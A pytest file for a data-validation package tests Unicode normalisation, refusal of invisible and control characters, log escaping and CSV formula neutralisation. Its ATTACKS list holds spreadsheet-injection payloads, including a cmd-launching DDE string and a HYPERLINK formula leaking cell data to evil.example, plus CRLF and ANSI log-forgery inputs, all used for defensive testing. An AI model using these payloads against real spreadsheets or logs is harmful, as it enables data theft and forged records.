"""Text you can trust: identifying text normalised and refused with invisible or control characters,
log lines that cannot be forged, CSV exports that Excel reads as data."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata
from pathlib import Path

import pandas as pd
import pytest

from tryggplan.domain import InvalidInputError
from tryggplan.readers import load_incidents, read_places, unique_problems
from tryggplan.spreadsheet import csv_text, excel_safe, frame_csv
from tryggplan.text import (
    FORBIDDEN,
    char_label,
    escape_log,
    forbidden_character,
    normalize_series,
    normalize_text,
    text_problem,
)
from tryggplan.validation import row_text_problems, validate_incidents

NOW = pd.Timestamp("2026-11-26 12:00", tz="UTC")
INVISIBLE_FIX = (
    "delete the value and type it again: such characters come with text copied from web pages, e-mails or "
    "chat apps and make two different values look identical"
)
CONTROL_FIX = "remove it: an id, name or category is one line of visible text (the export may be corrupted)"

# --------------------------------------------------------------------------- normalising


@pytest.mark.parametrize(
    ("value", "normal"),
    [
        ("Malmo\u0308", "Malmö"),  # o + combining diaeresis -> one character (NFC)
        ("Torget\u00a0Norr", "Torget Norr"),  # no-break space
        ("Torget\u202fNorr", "Torget Norr"),  # narrow no-break space
        ("  parken \t", "parken"),
        ("\r=7+7", "=7+7"),  # leading whitespace is removed before the check, as the readers do
        ("Skadegörelse", "Skadegörelse"),
    ],
)
def test_normalize_text(value: str, normal: str) -> None:
    assert normalize_text(value, "place_id") == normal
    assert normalize_series(pd.Series([value, None])).tolist() == [normal, ""]


@pytest.mark.parametrize(
    ("value", "kind", "label", "position"),
    [
        ("\u200bparken", "invisible_character", "U+200B (zero width space)", 1),
        ("par\ufeffken", "invisible_character", "U+FEFF (byte-order mark)", 4),
        ("\u202eparken", "invisible_character", "U+202E (right-to-left override)", 1),
        ("p\u2066x\u2069", "invisible_character", "U+2066 (left-to-right isolate)", 2),
        ("a\u200cb", "invisible_character", "U+200C (zero width non-joiner)", 2),
        ("a\u200db", "invisible_character", "U+200D (zero width joiner)", 2),
        ("a\u2060b", "invisible_character", "U+2060 (word joiner)", 2),
        ("a\u00adb", "invisible_character", "U+00AD (soft hyphen)", 2),
        ("a\u200fb", "invisible_character", "U+200F (right-to-left mark)", 2),
        ("a\U000e0041b", "invisible_character", "U+E0041 (tag latin capital letter a)", 2),
        ("a\rb", "control_character", "U+000D (carriage return)", 2),
        ("a\nb", "control_character", "U+000A (line feed)", 2),
        ("a\tb", "control_character", "U+0009 (tab)", 2),
        ("a\x1b[31mb", "control_character", "U+001B (escape)", 2),
        ("a\x00b", "control_character", "U+0000 (NUL)", 2),
        ("a\x85b", "control_character", "U+0085 (next line)", 2),
        ("a\x9bb", "control_character", "U+009B (control character)", 2),
        ("a\u2028b", "control_character", "U+2028 (line separator)", 2),
    ],
)
def test_invisible_and_control_characters_are_refused(value: str, kind: str, label: str, position: int) -> None:
    what = "the invisible character" if kind == "invisible_character" else "the control character"
    expected = f"place_id contains {what} {label} at position {position}"
    if kind == "invisible_character":
        expected += ": the value would look the same as one without it"
    fix = INVISIBLE_FIX if kind == "invisible_character" else CONTROL_FIX
    problem = text_problem(value, "place_id", file="f.csv", row=7)
    assert problem is not None
    assert (problem.file, problem.row, problem.column, problem.kind) == ("f.csv", 7, "place_id", kind)
    assert (problem.message, problem.fix) == (expected, fix)
    assert problem.value == escape_log(value)
    with pytest.raises(InvalidInputError) as err:
        normalize_text(value, "place_id")
    assert str(err.value) == f"{expected} -> {fix}"
    assert err.value.problems == [problem.__class__("", None, "place_id", expected, fix)]


def test_every_format_and_control_character_is_refused() -> None:
    """The character class of tryggplan.text against unicodedata: every Cc, Cf, Zl and Zp code point."""
    missed = [
        f"U+{code:04X}"
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp") and not FORBIDDEN.match(chr(code))
    ]
    assert missed == []
    assert forbidden_character("Malmö torget 1-2, (öst) é ñ 北 😀") is None
    assert char_label("\u202e") == "U+202E (right-to-left override)"


# --------------------------------------------------------------------------- logs


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("GET /places\r\n127.0.0.1 - admin 200", "GET /places\\r\\n127.0.0.1 - admin 200"),
        ("/x\x1b[2J", "/x\\x1b[2J"),
        ("/a\\nb", "/a\\\\nb"),  # a typed backslash-n is not a line feed in the log
        ("/\u202eexe.txt", "/\\u202eexe.txt"),
        ("/\u2028", "/\\u2028"),
        ("/\x00\x7f\x85", "/\\x00\\x7f\\x85"),
        ("/\U000e0041", "/\\U000e0041"),
        ("/platser/Malmö torget", "/platser/Malmö torget"),
    ],
)
def test_escape_log(text: str, escaped: str) -> None:
    assert escape_log(text) == escaped


def test_no_character_can_break_a_log_line() -> None:
    every = "".join(chr(c) for c in range(sys.maxunicode + 1) if not 0xD800 <= c <= 0xDFFF)
    line = escape_log(every)
    assert len(line.splitlines()) == 1
    assert FORBIDDEN.search(line) is None


# --------------------------------------------------------------------------- formulas in CSV exports

ATTACKS = [
    "=1+1",
    "+46701234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=7+7",  # the place id that slipped past the guard of grid.csv
    "\n=7+7",
    "\r\n=7+7",
    " =1+1",
    "  \t @SUM(A1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff+1",
    "\u202e=1+1",
    "\uff1d1+1",  # full-width equals sign
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    "\tTorget",  # a leading tab or CR is neutralised whatever follows
    "\rTorget",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_excel_safe_neutralises_formulas_after_leading_whitespace(cell: str) -> None:
    assert excel_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Torget", " Torget", "Malmö = bra", "a-b", "", "2026-12-04T21:00:00+01:00"])
def test_excel_safe_leaves_plain_text(cell: str) -> None:
    assert excel_safe(cell) == cell


def test_csv_text_quotes_line_breaks_and_neutralises_every_cell() -> None:
    rows = [["place_id", "expected"], ["\r=7+7", 0.5], ["a\nb", -1], ["Torget", None]]
    text = csv_text(rows, delimiter=";")
    assert text == 'place_id;expected\r\n"\'\r=7+7";0.5\r\n"a\nb";-1\r\nTorget;\r\n'
    back = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert back == [["place_id", "expected"], ["'\r=7+7", "0.5"], ["a\nb", "-1"], ["Torget", ""]]


def test_frame_csv_writes_a_grid_excel_reads_as_data() -> None:
    grid = pd.DataFrame({"place_id": ["\r=7+7", "torget"], "expected": [0.25, float("nan")], "lo_80": [-1, 0]})
    before = grid.copy()
    text = frame_csv(grid)
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back == [["place_id", "expected", "lo_80"], ["'\r=7+7", "0.25", "-1"], ["torget", "", "0"]]
    # every text cell is data: neutralised already or nothing to neutralise; numbers stay numbers
    cells = [c for row in back[1:] for c in row[:1]]
    assert all(c.startswith("'") or excel_safe(c) == c for c in cells)
    pd.testing.assert_frame_equal(grid, before)


# --------------------------------------------------------------------------- in files


def test_look_alike_ids_and_places_in_a_file_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "ids.csv"
    path.write_text(
        "Id;Tidpunkt;Plats\n"
        "k1;2025-08-15 21:00;parken\n"
        "\ufeffk1;2025-08-15 21:00;parken\n"  # a BOM inside the value (not at the start of the file)
        "k\u200b2;2025-08-15 21:00;parken\n"
        "k3;2025-08-15 21:00;\u202enekrap\n"
        '"k4";2025-08-15 21:00;"par\rken"\n',
        encoding="utf-8",
    )
    result = load_incidents(path, now=NOW)
    assert [(p.row, p.column, p.kind, p.message) for p in result.problems] == [
        (
            3,
            "Id",
            "invisible_character",
            "Id contains the invisible character U+FEFF (byte-order mark) at position 1: the value would look the "
            "same as one without it",
        ),
        (
            4,
            "Id",
            "invisible_character",
            "Id contains the invisible character U+200B (zero width space) at position 2: the value would look the "
            "same as one without it",
        ),
        (
            5,
            "Plats",
            "invisible_character",
            "Plats contains the invisible character U+202E (right-to-left override) at position 1: the value would "
            "look the same as one without it",
        ),
        (
            6,
            "Plats",
            "control_character",
            "Plats contains the control character U+000D (carriage return) at position 4",
        ),
    ]
    assert result.incidents["incident_id"].tolist() == ["k1"]


def test_a_nul_is_reported_once(tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(b"incident_id,occurred_at,place_id\nk\x001,2025-08-15 21:00,parken\n")
    result = load_incidents(path, now=NOW)
    assert [(p.row, p.column, p.kind) for p in result.problems] == [(2, "incident_id", "nul_bytes")]
    # the same rows checked as the JSON import checks them: both checks see the NUL, it is listed once
    raw = pd.DataFrame({"incident_id": ["k\x001"], "occurred_at": ["2025-08-15 21:00"], "place_id": ["p"], "row": [1]})
    both = row_text_problems("f", 1, ["incident_id", "occurred_at", "place_id"], ["k\x001", "2025-08-15 21:00", "p"])
    both += validate_incidents(raw, "f", now=NOW).problems
    assert [p.kind for p in both] == ["nul_bytes", "control_character"]
    assert [p.kind for p in unique_problems(both)] == ["nul_bytes"]


def test_nfc_equal_ids_and_places_are_equal(tmp_path: Path) -> None:
    composed, decomposed = "Malmö", "Malmo\u0308"
    path = tmp_path / "nfc.csv"
    path.write_text(
        "incident_id,occurred_at,place_id,category\n"
        f"{composed}-1,2025-08-15 21:00,{composed},Skadegörelse\n"
        f"{decomposed}-1,2025-08-15 21:00,{decomposed},Skadego\u0308relse\n",
        encoding="utf-8",
    )
    result = load_incidents(path, places=[decomposed], now=NOW)
    assert result.ok, result.problems
    assert result.incidents.to_dict("list") | {"occurred_at": None} == {
        "incident_id": ["Malmö-1"],
        "occurred_at": None,
        "place_id": ["Malmö"],
        "category": ["vandalism"],
        "source": ["reporter"],
        "weight": [1.0],
    }
    assert result.notes == {"exact_duplicates_dropped": 1}


def test_places_are_normalised_and_checked(tmp_path: Path) -> None:
    path = tmp_path / "platser.csv"
    path.write_text("Platsid;Namn\nmalmo\u0308;Malmo\u0308\u00a0torg\n", encoding="utf-8")
    places = read_places(path)
    assert places[["place_id", "name"]].values.tolist() == [["malmö", "Malmö torg"]]
    path.write_text("Platsid;Namn\nparken;Parken\nparken\u200b;Parken\n", encoding="utf-8")
    with pytest.raises(InvalidInputError) as err:
        read_places(path)
    assert [(p.row, p.column, p.kind) for p in err.value.problems] == [(3, "place_id", "invisible_character")]
